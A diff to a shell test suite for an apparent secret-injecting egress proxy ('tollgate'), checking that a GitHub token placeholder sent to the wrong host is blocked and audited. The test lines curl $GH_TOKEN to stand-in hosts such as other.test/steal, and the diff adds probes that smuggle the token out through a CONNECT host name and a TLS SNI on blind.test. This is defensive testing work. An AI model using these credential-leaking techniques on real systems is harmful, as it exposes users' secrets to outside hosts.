@@ -42,6 +42,8 @@ curl -sS --max-time 20 -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https:/
 curl -sS --max-time 20 -o /dev/null -u "octo:$GH_TOKEN" https://origin.test/with-basic
 curl -sS --max-time 20 -o /dev/null "https://origin.test/in-query?access_token=$GH_TOKEN"
 echo "misdirected $(curl -s --max-time 20 -o /dev/null -D - -H "Authorization: Bearer $GH_TOKEN" https://other.test/steal | tr -d '\r' | awk '/^HTTP|^X-Tollgate/' | tr '\n' ' ')"
+echo "misdirected-connect $(curl -s --max-time 20 -o /dev/null -w '%{http_connect}' "https://$GH_TOKEN.blind.test/")"
+echo "misdirected-sni $(echo | openssl s_client -proxy "${HTTPS_PROXY#http://}" -connect blind.test:443 -servername "$GH_TOKEN.blind.test" 2>&1 | grep -c 'BEGIN CERTIFICATE')"
 echo "misdirected-basic $(curl -s --max-time 20 -o /dev/null -w '%{http_code}' -u "octo:$GH_TOKEN" https://other.test/steal2)"
 SH
 
@@ -85,6 +87,8 @@ expect_match "... in the request line" \
 expect_match "the placeholder sent to another inspected host is refused" \
 	"$(result misdirected)" "HTTP/1.1 403 .*X-Tollgate-Reason: secret-misdirected"
 expect_eq "... inside Basic credentials too" "$(result misdirected-basic)" "403"
+expect_eq "... in a CONNECT's host name" "$(result misdirected-connect)" "403"
+expect_eq "... in a blind tunnel's server_name (no TLS at all)" "$(result misdirected-sni)" "0"
 expect_eq "the other host never saw it" "$(grep -c 'steal' "$TEST_TMP/origin.log" || true)" "0"
 expect_match "the person is told, by the secret's name" "$(cat "$TEST_TMP/err")" \
 	"secret GH_TOKEN went to other.test.*secret-misdirected"
@@ -92,7 +96,7 @@ expect_eq "the real value is not in the sandbox's output" "$(grep -c "$REAL" <<<
 expect_eq "... nor on tollgate's stderr" "$(grep -c "$REAL" "$TEST_TMP/err" || true)" "0"
 expect_eq "... nor in the audit database" "$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
 expect_eq "the audit row names the misdirected secret" \
-	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "2"
+	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "4"
 expect_match "the injecting request's row names the secret" \
 	"$(sqlite3 "$DB" "select json_extract(detail,'\$.secrets_injected') from events where kind='connection' and json_extract(detail,'\$.path')='/with-bearer'")" \
 	"^GH_TOKEN$"
